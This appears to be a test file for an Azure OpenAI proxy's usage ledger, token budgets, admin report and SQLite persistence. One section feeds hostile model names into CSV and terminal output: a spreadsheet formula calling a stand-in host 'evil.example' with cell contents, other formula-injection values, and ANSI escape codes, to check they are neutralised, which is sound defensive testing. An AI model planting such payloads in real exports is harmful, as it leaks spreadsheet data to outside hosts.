/**
 * The usage ledger and budgets (README "Usage and budgets"): every call that went upstream is
 * in /admin/usage with its tokens and cost (streams included); a key past a budget gets 429
 * insufficient_quota and nothing reaches Azure; with `state.path` all of it survives a restart
 * and `azure-proxy usage` reads it with no proxy running.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { mkdtempSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { configFile } from "../harness/config-file.ts";
import { chatBody, post } from "../harness/fixture.ts";
import { runProxyCommand, startProxy, type RunningProxy } from "../harness/proxy.ts";
import { startSimulator, type RunningSimulator } from "../harness/simulator.ts";
import { readEvents } from "../harness/sse.ts";

const ADMIN = "usage-admin-key";
const TEAM = "usage-team-key";
const TIGHT = "usage-tight-key";
const PRICES = { "gpt-4o": { input: 2.5, cached_input: 1.25, output: 10 } };
const today = new Date().toISOString().slice(0, 10);

let sim: RunningSimulator;
let dir: string;

function config(statePath: string | undefined, budgetTokens = 40) {
  return {
    upstreams: [{ name: "east", endpoint: sim.url, api_key: sim.key, api_version: "2024-10-21", deployments: { "gpt-4o": "gpt-4o", "gpt-4.1": "gpt-4.1" } }],
    keys: [
      { name: "ops", key: ADMIN, admin: true },
      { name: "team", key: TEAM },
      { name: "tight", key: TIGHT, budget: { tokens_per_day: budgetTokens } },
    ],
    prices: PRICES,
    ...(statePath ? { state: { path: statePath } } : {}),
  };
}

const chat = (proxy: RunningProxy, key: string, content: string, extra: Record<string, unknown> = {}) =>
  post(`${proxy.url}/v1/chat/completions`, chatBody(content, extra), { authorization: `Bearer ${key}` });
const usageOf = async (response: Response) => {
  expect(response.status).toBe(200);
  const body = (await response.json()) as { usage: { prompt_tokens: number; completion_tokens: number } };
  return body.usage;
};
const report = (proxy: RunningProxy, query = "", key = ADMIN) => fetch(`${proxy.url}/admin/usage${query}`, { headers: { authorization: `Bearer ${key}` } });
const served = (marker: string) => sim.recorder.all().filter((r) => r.bodyText.includes(marker)).length;

beforeAll(async () => {
  sim = await startSimulator({ name: "east" });
  dir = mkdtempSync(join(tmpdir(), "azure-proxy-state-"));
});
afterAll(async () => {
  await sim.stop();
});

describe("usage ledger in memory (no state configured)", () => {
  let proxy: RunningProxy;
  beforeAll(async () => {
    proxy = await startProxy({ args: ["serve", "--config", configFile(config(undefined, 1_000_000)).path, "--workers", "1"] });
  });
  afterAll(async () => {
    await proxy.stop();
  });

  test("/admin/usage: no key 401, a key that is not an admin's 403, both OpenAI-shaped", async () => {
    const none = await fetch(`${proxy.url}/admin/usage`);
    expect(none.status).toBe(401);
    expect(((await none.json()) as { error: { type: string } }).error.type).toBe("authentication_error");
    const team = await report(proxy, "", TEAM);
    expect(team.status).toBe(403);
    const error = ((await team.json()) as { error: Record<string, unknown> }).error;
    expect(error).toMatchObject({ type: "permission_error", code: "admin_key_required", param: null });
  });

  test("plain and streamed calls are counted per key, model and day, priced from `prices`", async () => {
    const plain = await usageOf(await chat(proxy, TEAM, "count me [sim reply=one_two_three]"));
    // the same prompt and reply streamed (the proxy asks Azure for the usage chunk itself)
    const stream = await chat(proxy, TEAM, "count me [sim reply=one_two_three]", { stream: true });
    expect(stream.status).toBe(200);
    const events = await readEvents(stream);
    expect(events.at(-1)?.data).toBe("[DONE]");
    const response = await report(proxy, "?by=key,model,day");
    expect(response.status).toBe(200);
    const body = (await response.json()) as { data: Array<Record<string, unknown>>; unpriced: string[]; totals: Record<string, number> };
    const prompt = plain.prompt_tokens * 2;
    const completion = plain.completion_tokens * 2;
    expect(body.data).toContainEqual({
      key: "team",
      model: "gpt-4o",
      day: today,
      requests: 2,
      prompt_tokens: prompt,
      cached_tokens: 0,
      completion_tokens: completion,
      total_tokens: prompt + completion,
      cost_usd: Math.round(((prompt * 2.5 + completion * 10) / 1e6) * 1e8) / 1e8,
    });
    expect(body.unpriced).toEqual([]);
  });

  test("a model without a price costs 0 and is listed as unpriced; CSV has a header and a line per group", async () => {
    await usageOf(await chat(proxy, TEAM, "unpriced", { model: "gpt-4.1" }));
    const json = (await (await report(proxy, "?by=model")).json()) as { data: Array<Record<string, unknown>>; unpriced: string[] };
    expect(json.unpriced).toEqual(["gpt-4.1"]);
    expect(json.data.find((d) => d.model === "gpt-4.1")).toMatchObject({ requests: 1, cost_usd: 0 });
    const csv = await report(proxy, "?by=model&format=csv");
    expect(csv.headers.get("content-type")).toContain("text/csv");
    const lines = (await csv.text()).trim().split("\n");
    expect(lines[0]).toBe("model,requests,prompt_tokens,cached_tokens,completion_tokens,total_tokens,cost_usd");
    expect(
      lines
        .slice(1)
        .map((l) => l.split(",")[0])
        .sort(),
    ).toEqual(["gpt-4.1", "gpt-4o"]);
  });

  test("a bad query parameter is a 400 naming it", async () => {
    for (const [query, param] of [
      ["?by=colour", "by"],
      ["?since=yesterday", "since"],
      ["?until=2026-13-01", "until"],
      ["?format=xml", "format"],
      ["?since=2026-06-10&until=2026-06-01", "since"],
      ["?since=2020-01-01&until=2026-06-01", "since"],
      ["?since=9999d", "since"],
    ] as const) {
      const response = await report(proxy, query);
      expect(response.status).toBe(400);
      expect(((await response.json()) as { error: { param: string } }).error.param).toBe(param);
    }
  });
});

describe("budgets and the SQLite ledger (state.path)", () => {
  const statePath = () => join(dir, "state.db");

  test("past tokens_per_day: 429 insufficient_quota, x-should-retry false, nothing sent upstream; a call in flight finishes", async () => {
    const proxy = await startProxy({ args: ["serve", "--config", configFile(config(statePath())).path, "--workers", "1"] });
    try {
      // two calls at once, both admitted while the key is under its budget (each alone uses
      // fewer than 40 tokens): both finish, and together they take the key past 40
      const [a, b] = await Promise.all([
        chat(proxy, TIGHT, "first in flight [sim chunk_ms=20]", { stream: true }),
        chat(proxy, TIGHT, "second in flight [sim first_byte_ms=200]"),
      ]);
      expect(a.status).toBe(200);
      expect((await readEvents(a)).at(-1)?.data).toBe("[DONE]");
      const used = await usageOf(b);
      expect(used.prompt_tokens + used.completion_tokens).toBeLessThan(40);
      expect(used.prompt_tokens + used.completion_tokens).toBeGreaterThan(20);

      const refused = await chat(proxy, TIGHT, "over budget marker-7f3a");
      expect(refused.status).toBe(429);
      expect(refused.headers.get("x-should-retry")).toBe("false");
      const error = ((await refused.json()) as { error: Record<string, unknown> }).error;
      expect(error).toMatchObject({ type: "insufficient_quota", code: "insufficient_quota", param: null });
      expect(String(error.message)).toContain("tokens_per_day");
      expect(String(error.message)).toMatch(/resets at \d{4}-\d{2}-\d{2}T00:00:00Z/);
      expect(served("marker-7f3a")).toBe(0);
      // other keys go on
      expect((await chat(proxy, TEAM, "team is fine")).status).toBe(200);
    } finally {
      expect(await proxy.stop()).toBe(0);
    }
  });

  test("a restart on the same file keeps the budget spent and the report", async () => {
    const proxy = await startProxy({ args: ["serve", "--config", configFile(config(statePath())).path, "--workers", "1"] });
    try {
      const refused = await chat(proxy, TIGHT, "still over budget marker-91c2");
      expect(refused.status).toBe(429);
      expect(served("marker-91c2")).toBe(0);
      const body = (await (await report(proxy, "?by=key")).json()) as { data: Array<Record<string, unknown>> };
      expect(body.data.find((d) => d.key === "tight")).toMatchObject({ requests: 2 });
      expect(body.data.find((d) => d.key === "team")).toMatchObject({ requests: 1 });
    } finally {
      await proxy.stop();
    }
  });

  test("azure-proxy usage reads the file with no proxy running: table, csv and json", async () => {
    const file = configFile(config(statePath())).path;
    const table = await runProxyCommand(["usage", "--config", file, "--since", "7d", "--by", "key"]);
    expect(table.code).toBe(0);
    const lines = table.stdout.split("\n");
    expect(lines[1]).toMatch(/^key\s+requests\s+prompt\s+cached\s+completion\s+total\s+cost_usd$/);
    expect(lines.some((l) => /^tight\s+2\s/.test(l))).toBe(true);
    expect(lines.some((l) => /^TOTAL\s+3\s/.test(l))).toBe(true);

    // a period longer than a report covers (800 days) is refused, not cut short without a word
    const long = await runProxyCommand(["usage", "--config", file, "--since", "2020-01-01"]);
    expect(long.code).toBe(2);
    expect(long.stderr).toContain("--since: the period may be at most 800 days");
    const csv = await runProxyCommand(["usage", "--config", file, "--by", "key,day", "--format", "csv"]);
    expect(csv.code).toBe(0);
    expect(csv.stdout.split("\n").filter((l) => l.startsWith(`tight,${today},2,`))).toHaveLength(1);

    const json = await runProxyCommand(["usage", "--config", file, "--since", today, "--format", "json"]);
    expect(json.code).toBe(0);
    const parsed = JSON.parse(json.stdout) as { totals: { requests: number }; since: string };
    expect(parsed).toMatchObject({ since: today, totals: { requests: 3 } });

    const bad = await runProxyCommand(["usage", "--config", file, "--since", "last-week"]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain("--since");
  });

  test("SIGTERM right after a call loses nothing; SIGKILL loses at most the last second", async () => {
    const path = join(dir, "stop.db");
    const file = configFile(config(path)).path;
    const requestsIn = async () => {
      const out = await runProxyCommand(["usage", "--config", file, "--by", "key", "--format", "json"]);
      return (JSON.parse(out.stdout) as { totals: { requests: number } }).totals.requests;
    };
    const first = await startProxy({ args: ["serve", "--config", file, "--workers", "1"] });
    await usageOf(await chat(first, TEAM, "just before the stop"));
    expect(await first.stop("SIGTERM")).toBe(0);
    expect(await requestsIn()).toBe(1);

    const second = await startProxy({ args: ["serve", "--config", file, "--workers", "1"] });
    await usageOf(await chat(second, TEAM, "a second before the crash"));
    await Bun.sleep(1300); // one batch interval (1 s) and some
    await second.stop("SIGKILL");
    expect(await requestsIn()).toBe(2);
  });

  test("with workers, the primary keeps the one ledger and budgets hold across workers", async () => {
    const path = join(dir, "workers.db");
    const proxy = await startProxy({ args: ["serve", "--config", configFile(config(path)).path, "--workers", "2"] });
    let ok = 0;
    let refused = 0;
    let perCall = 0;
    try {
      // one at a time on new connections (spread over both workers): each sees what the
      // others spent, so the key stops after the call that crossed 40 tokens, not after 2×40
      for (let i = 0; i < 8; i++) {
        const response = await post(`${proxy.url}/v1/chat/completions`, chatBody(`worker call ${i}`), {
          authorization: `Bearer ${TIGHT}`,
          connection: "close",
        });
        if (response.status === 200) {
          ok++;
          const usage = ((await response.json()) as { usage: { total_tokens: number } }).usage;
          perCall = usage.total_tokens;
        } else {
          expect(response.status).toBe(429);
          refused++;
          await response.arrayBuffer();
        }
      }
      expect(perCall).toBeGreaterThan(0);
      expect(ok).toBe(Math.ceil(40 / perCall));
      expect(refused).toBe(8 - ok);
      const body = (await (await report(proxy, "?by=key")).json()) as { data: Array<Record<string, unknown>> };
      expect(body.data).toEqual([expect.objectContaining({ key: "tight", requests: ok, total_tokens: ok * perCall })]);
    } finally {
      expect(await proxy.stop()).toBe(0);
    }
    // written by the primary on drain
    const after = await runProxyCommand(["usage", "--config", configFile(config(path)).path, "--by", "key", "--format", "json"]);
    expect((JSON.parse(after.stdout) as { totals: { requests: number } }).totals.requests).toBe(ok);
  });
});

describe("odd model names in the report", () => {
  // a model name in `deployments` is free text; Azure's 404 for its deployment is still a call
  // in the ledger. A name a client makes up (any_model) is only kept once Azure served it.
  const FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")';
  const ESCAPED = "red\u001b[31mX\u009b2J";
  let proxy: RunningProxy;
  let file: string;
  beforeAll(async () => {
    const path = join(dir, "chosen.db");
    file = configFile({
      upstreams: [
        {
          name: "east",
          endpoint: sim.url,
          api_key: sim.key,
          api_version: "2024-10-21",
          deployments: { "gpt-4o": "gpt-4o", [FORMULA]: "nowhere", "-2+3": "nowhere", "@SUM(1)": "nowhere", [ESCAPED]: "nowhere" },
          any_model: true,
        },
      ],
      keys: [
        { name: "ops", key: ADMIN, admin: true },
        { name: "team", key: TEAM },
      ],
      state: { path },
    }).path;
    proxy = await startProxy({ args: ["serve", "--config", file, "--workers", "1"] });
    for (const model of [FORMULA, "-2+3", "@SUM(1)", ESCAPED]) {
      const response = await chat(proxy, TEAM, "chosen", { model });
      expect(response.status).toBe(404);
      await response.arrayBuffer();
    }
  });
  afterAll(async () => {
    await proxy.stop();
  });

  test("CSV: a field a spreadsheet would run as a formula starts with an apostrophe, and stays one quoted field", async () => {
    const csv = await (await report(proxy, "?by=model&format=csv")).text();
    const fields = csv
      .trim()
      .split("\n")
      .slice(1)
      .map((line) => line.slice(0, line.lastIndexOf(",1,0,0,0,0,0")));
    expect(fields.sort()).toEqual([`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")"`, "'-2+3", "'@SUM(1)", ESCAPED].sort());
    for (const field of fields) expect(field).not.toMatch(/^"?[=+\-@]/);
  });

  test("table: control characters in a name are shown as \\u escapes, never sent to the terminal", async () => {
    await proxy.stop();
    proxy = await startProxy({ args: ["serve", "--config", file, "--workers", "1"] });
    const out = await runProxyCommand(["usage", "--config", file, "--by", "model"]);
    expect(out.code).toBe(0);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: the test looks for control characters
    expect(out.stdout).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/);
    expect(out.stdout).toContain("red\\u001b[31mX\\u009b2J");
  });

  test("models a client makes up (any_model) that Azure does not serve are one 'other' row, not a row each", async () => {
    const made = Array.from({ length: 30 }, () => `made-up-${crypto.randomUUID()}`);
    for (const model of made) {
      const response = await chat(proxy, TEAM, "made up", { model });
      expect(response.status).toBe(404);
      await response.arrayBuffer();
    }
    const body = (await (await report(proxy, "?by=model")).json()) as { data: Array<{ model: string; requests: number }>; unpriced: string[] };
    expect(body.data.filter((d) => d.model.startsWith("made-up-"))).toEqual([]);
    expect(body.data.find((d) => d.model === "other")?.requests).toBe(30);
    // one Azure did serve keeps its name, for its price
    await usageOf(await chat(proxy, TEAM, "served", { model: "gpt-4.1" }));
    expect(((await (await report(proxy, "?by=model")).json()) as { data: Array<{ model: string }> }).data.map((d) => d.model)).toContain("gpt-4.1");
  });
});
